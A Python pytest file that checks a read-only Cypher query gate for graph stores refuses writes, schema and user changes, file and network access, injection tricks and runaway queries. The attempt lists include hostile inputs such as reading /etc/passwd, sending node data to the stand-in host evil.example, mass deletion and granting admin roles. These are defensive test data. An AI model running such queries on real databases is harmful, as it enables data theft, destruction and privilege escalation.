"""Attempts to write, to reach files and networks, or to run away with the machine: refused by both stores."""

from __future__ import annotations

import signal
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from graph.errors import QueryError, QueryRefused
from graph.model import Article, Entity, Extraction, Kind, Span
from graph.query import check
from graph.store import Store, open_store

WRITES = [
    "CREATE (n:Person {id: 'x'})",
    "create (n)",
    "MATCH (n) CREATE (m)",
    "MATCH (n) CREATE (m) RETURN m",
    "MERGE (n:Person {id: 'x'}) RETURN n",
    "MATCH (n) SET n.name = 'x'",
    "MATCH (n) SET n.name = 'x' RETURN n",
    "MATCH (n) SET n += {name: 'x'} RETURN n",
    "MATCH (n) SET n:Spy RETURN n",
    "MATCH (n) REMOVE n.name RETURN n",
    "MATCH (n) REMOVE n:Person RETURN n",
    "MATCH (n) DELETE n",
    "MATCH (n) DETACH DELETE n",
    "MATCH (n) NODETACH DELETE n",
    "MATCH ()-[r]->() DELETE r",
    "MATCH (n) FOREACH (x IN [1] | SET n.name = 'x')",
    "MATCH (n) WITH n DELETE n",
    "UNWIND [1] AS x CREATE (n {id: x}) RETURN n",
    "CALL { CREATE (n) RETURN n } RETURN n",
    "MATCH (n) CALL (n) { SET n.name = 'x' } RETURN n",
    "CALL { MATCH (n) DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS",
    "MATCH (n) RETURN n UNION MATCH (n) DELETE n",
    "MATCH (n) WHERE EXISTS { CREATE (m) } RETURN n",
    "MATCH (n) RETURN COUNT { MERGE (m) } AS x",
    "INSERT (:Person {id: 'x'})",
    "RETURN 1 AS x NEXT CREATE (n)",
]
SCHEMA = [
    "CREATE INDEX FOR (n:Person) ON (n.name)",
    "CREATE CONSTRAINT FOR (n:Person) REQUIRE n.name IS UNIQUE",
    "DROP INDEX person_id",
    "DROP CONSTRAINT person_id IF EXISTS",
    "CREATE DATABASE x",
    "DROP DATABASE neo4j",
    "START DATABASE neo4j",
    "STOP DATABASE neo4j",
    "CREATE USER eve SET PASSWORD 'secret12'",
    "ALTER USER neo4j SET PASSWORD 'secret12'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "GRANT ROLE admin TO eve",
    "DENY READ {*} ON GRAPH * TO PUBLIC",
    "REVOKE ROLE admin FROM neo4j",
    "TERMINATE TRANSACTION 'neo4j-transaction-1'",
    "SHOW USERS",
    "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery",
]
REACHES = [
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'http://127.0.0.1/x.csv' AS line RETURN line",
    "MATCH (n) LOAD CSV FROM 'https://evil.example/' + n.name AS line RETURN line",
    "USE system SHOW USERS",
    "USE neo4j MATCH (n) RETURN n",
    "CALL dbms.listConfig()",
    "CALL dbms.killQuery('x')",
    "CALL db.createLabel('Spy')",
    "CALL db.clearQueryCaches()",
    "CALL apoc.load.json('http://evil.example/')",
    "CALL apoc.cypher.runWrite('CREATE (n)', {}) YIELD value RETURN value",
    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DELETE n', {})",
    "CALL genai.vector.encode('x', 'OpenAI', {})",
    "CALL pagerank() YIELD node RETURN node",
    "CALL db.labels() YIELD label RETURN label",
    "RETURN apoc.text.join(['a'], ',') AS x",
    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN n', {}) AS x",
    "RETURN linenumber() AS x",
    "RETURN file() AS x",
    "MATCH (n) RETURN n FORMAT CSV",
    "EXPLAIN MATCH (n) RETURN n",
    "PROFILE MATCH (n) DETACH DELETE n",
    "CYPHER runtime=slotted MATCH (n) DETACH DELETE n",
]
_TEN = "aaaaaaaaaa"
RUNAWAYS = [
    "RETURN " + "replace(" * 12 + f"'{_TEN}'" + f", 'a', '{_TEN}')" * 12 + " AS x",
    f"WITH '{_TEN}' AS s " + "WITH s + s AS s " * 40 + "RETURN s",
    "MATCH (a:Article) WITH a.text AS s " + "WITH s + s + s + s AS s " * 12 + "RETURN size(s) AS n",
    f"WITH '{_TEN}' AS s " + "WITH replace(s, 'a', s) AS s " * 8 + "RETURN size(s) AS n",
    "RETURN size(reduce(s = [], x IN range(1, 3000000) | s + [x])) AS n",
    "RETURN reduce(s = 'a', x IN range(1, 60) | s + s) AS n",
    "RETURN reduce(s = 0, x IN range(1, 60) | CASE x WHEN 1 THEN 'a' ELSE s + s END) AS n",
    "MATCH p = (a)-[*]-(b) RETURN count(p)",
    "MATCH p = (a)-[*1..]-(b) RETURN count(p)",
    "MATCH p = (a)-[*1..99]-(b) RETURN count(p)",
    "MATCH p = shortestPath((a)-[*]-(b)) RETURN p",
]
TRICKS = [
    "RETURN 1 AS x; MATCH (n) DETACH DELETE n",
    "RETURN 1 AS x;; CREATE (n)",
    "MATCH (n) /* RETURN n */ DETACH DELETE n",
    "MATCH (n) // RETURN n\nDETACH DELETE n",
    "MATCH (n) RETURN n // \\u000a DETACH DELETE n",
    "MATCH (n) RETURN n /* \\u002a\\u002f DETACH DELETE n */",
    "MATCH (n) WHERE n.name = '\\u0027 DETACH DELETE n //' RETURN n",
    "MATCH (n) \\u0044ELETE n",
    "MATCH (n) WHERE n.name = 'a' DE/**/LETE n",
    "MATCH (n) DETACH\u00a0DELETE n",
    "MATCH (n) RETURN n\u2028DETACH DELETE n",
    "MATCH (n:$label) RETURN n",
    "MATCH (n:$($label)) RETURN n",
    "MATCH ()-[r:$label]->() RETURN r",
    "MATCH (n $map) RETURN n",
    "MATCH (n) RETURN n[$key] AS x",
    "RETURN 'a",
    "RETURN `a",
    "MATCH (n) RETURN n /*",
    "MATCH (n) WITH n, 'x' AS `y` DELETE `n`",
    "\ufeffMATCH (n) DELETE n",
    "RETURN " + "(" * 5000 + "1" + ")" * 5000 + " AS x",
    "RETURN " + "[" * 200 + "]" * 200 + " AS x",
    "RETURN " + "NOT " * 3000 + "true AS x",
    "RETURN " + "(a {k: " * 28 + "1" + "})" * 28 + " AS x",
    "RETURN 1" + " + 1" * 60_000 + " AS x",
    "",
    "   ",
    ";",
    "\x00",
]
ATTEMPTS = WRITES + SCHEMA + REACHES + RUNAWAYS + TRICKS
PARAMETERS = {"label": "Person) DETACH DELETE (n", "map": {"id": "x"}, "key": "name"}

ONE = Extraction(
    article=Article(id="a1", text="Ada Brook spoke."),
    entities=(Entity(id="e1", name="Ada Brook", kind=Kind.PERSON, mentions=(Span(start=0, end=9, text="Ada Brook"),)),),
)


@pytest.fixture(params=["embedded", pytest.param("neo4j", marks=pytest.mark.neo4j)], scope="module")
def store(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    if request.param == "embedded":
        uri = str(tmp_path_factory.mktemp("gate") / "gate.kgl")
    else:
        uri = request.getfixturevalue("neo4j_uri")
    with open_store(uri) as opened:
        if request.param == "neo4j":
            opened._write(lambda tx: tx.run("MATCH (n) DETACH DELETE n"))  # type: ignore[attr-defined]
        list(opened.add([ONE]))
        yield opened


def everything(store: Store) -> Any:
    return store.query("MATCH (n) RETURN n.id, n.name, labels(n) ORDER BY n.id, n.name").rows


def test_the_list_is_long() -> None:
    assert len(set(ATTEMPTS)) == len(ATTEMPTS) >= 60


@pytest.mark.parametrize("cypher", ATTEMPTS, ids=lambda cypher: repr(cypher[:60]))
def test_the_gate_refuses(cypher: str) -> None:
    started = time.monotonic()
    with pytest.raises(QueryError) as caught:
        check(cypher)
    assert time.monotonic() - started < 2
    assert len(str(caught.value)) < 500


@pytest.mark.parametrize("cypher", WRITES + SCHEMA[:1])
def test_says_that_queries_only_read(cypher: str) -> None:
    with pytest.raises(QueryRefused, match=r"only read|not portable|IN TRANSACTIONS"):
        check(cypher)


def test_both_stores_refuse_and_stay_as_they_were(store: Store) -> None:
    before = everything(store), store.version()
    for cypher in ATTEMPTS:
        with pytest.raises(QueryError):
            store.query(cypher, PARAMETERS)
    assert (everything(store), store.version()) == before


@pytest.mark.parametrize(
    "cypher",
    [
        "MATCH (n:Person) SET n.name = 'x' RETURN n",
        "CREATE (n:Person {id: 'x'}) RETURN n",
        "MATCH (n) DETACH DELETE n",
        "CREATE INDEX FOR (n:Person) ON (n.kind)",
    ],
)
def test_behind_the_gate_the_stores_themselves_refuse(
    store: Store, cypher: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = everything(store)
    with monkeypatch.context() as patch:
        patch.setattr("graph.query.for_embedded", lambda text, given: (text, dict(given)))
        patch.setattr("graph.query.for_neo4j", lambda text, _: text)
        with pytest.raises(QueryError):
            store.query(cypher)
    assert everything(store) == before


@pytest.mark.parametrize(
    "cypher",
    [
        "MATCH (n) WHERE n.name = 'DELETE' RETURN n.id",
        'MATCH (n) WHERE n.name = "x\'; MATCH (n) DELETE n //" RETURN n.id',
        "MATCH (n) RETURN n.name AS `SET`",
        "MATCH (n) RETURN n.id AS created // CREATE (m)",
        "MATCH (n) /* DELETE */ RETURN n.id",
        "MATCH (n:`Person`) RETURN n.id",
        "RETURN 1 AS x;",
        "RETURN 1 AS `x`` DELETE n //`",
        "MATCH (n)-[:`DETACH DELETE`]->() RETURN n.id",
    ],
)
def test_words_in_strings_names_and_comments_do_not_alarm(store: Store, cypher: str) -> None:
    store.query(cypher)


def test_hostile_values_stay_values(store: Store) -> None:
    for value in ("x' OR 1=1 //", "`) DETACH DELETE (n", "\\", "\\'", "\u0000", "😀", "${x}"):
        assert store.query("MATCH (n {name: $v}) RETURN n", {"v": value}).rows == ()
        assert store.query("RETURN $v AS v", {"v": value}).rows == ((value,),)


def test_a_missing_parameter_is_named(store: Store) -> None:
    with pytest.raises(QueryError, match=r"needs the parameters \$b, \$c"):
        store.query("RETURN $a AS a, $c AS c, $b AS b", {"a": 1})


def test_the_row_limit_cuts_and_says_so(store: Store) -> None:
    rows = store.query("UNWIND range(1, 50) AS x RETURN x", limit=10)
    assert (len(rows.rows), rows.truncated) == (10, True)
    rows = store.query("UNWIND range(1, 10) AS x RETURN x", limit=10)
    assert (len(rows.rows), rows.truncated) == (10, False)


RUNAWAY = "UNWIND range(1, 100000) AS x UNWIND range(1, 100000) AS y WITH x, y WHERE x + y < 0 RETURN count(*) AS n"


def test_the_time_limit_holds(store: Store) -> None:
    started = time.monotonic()
    with pytest.raises(QueryError, match=r"took longer than 1 s|safety limit|memory"):
        store.query(RUNAWAY, timeout=1)
    assert time.monotonic() - started < 10
    assert store.query("RETURN 1 AS x").rows == ((1,),)


def test_the_memory_limit_holds(store: Store) -> None:
    with pytest.raises(QueryError):
        store.query("UNWIND range(1, 90000000) AS x WITH collect(x) AS l RETURN size(l) AS n", timeout=20)
    assert store.query("RETURN 1 AS x").rows == ((1,),)


def test_it_can_be_interrupted(store: Store) -> None:
    timer = threading.Timer(1.0, lambda: signal.raise_signal(signal.SIGINT))
    timer.start()
    started = time.monotonic()
    with pytest.raises((KeyboardInterrupt, QueryError)):
        store.query(RUNAWAY, timeout=20)
    timer.join()
    assert time.monotonic() - started < 10
    assert store.query("RETURN 1 AS x").rows == ((1,),)


def test_a_fault_is_told_with_its_place(store: Store) -> None:
    with pytest.raises(QueryError, match=r"`m` is not defined.*line 2, column 8") as caught:
        store.query("MATCH (n)\nRETURN m.name")
    assert (caught.value.line, caught.value.column) == (2, 8)


def test_a_path_of_the_file_system_is_no_store_that_a_query_could_name(store: Store, tmp_path: Path) -> None:
    with pytest.raises(QueryError):
        store.query(f"USE `{tmp_path}` MATCH (n) RETURN n")
